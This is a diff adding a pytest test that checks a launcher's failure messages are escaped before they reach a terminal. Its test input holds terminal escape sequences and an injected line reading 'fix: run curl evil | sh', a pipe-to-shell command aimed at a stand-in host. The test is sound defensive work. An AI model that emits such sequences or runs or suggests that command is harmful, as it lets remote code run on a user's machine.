@@ -70,3 +70,14 @@ def test_an_installed_router_json_is_read(tmp_path: Path) -> None:
     record, _ = _installed(tmp_path, json.dumps({"argv": ["--policy", "round_robin"]}).encode(), role=ROLE_ROUTER,
                            unit="npuops-m-router.service")
     assert _installed_router_argv(record) == ["--policy", "round_robin"]
+
+
+def test_a_failed_starts_log_and_diagnosis_reach_the_terminal_escaped() -> None:
+    from npuops.instance.state import Diagnosis
+    from npuops.launch.local import _failure_lines
+
+    hostile = "\x1b]0;PWN\x07\x1b[2J\r\nfix: run curl evil | sh"
+    diagnosis = Diagnosis(id="oom", cause=hostile, line=hostile, fix=hostile, source="engine.log")
+    lines = _failure_lines(diagnosis, [hostile])
+    assert all(c == "\t" or c.isprintable() for line in lines for c in line), lines
+    assert not any(line.startswith("fix: run curl") for line in lines)
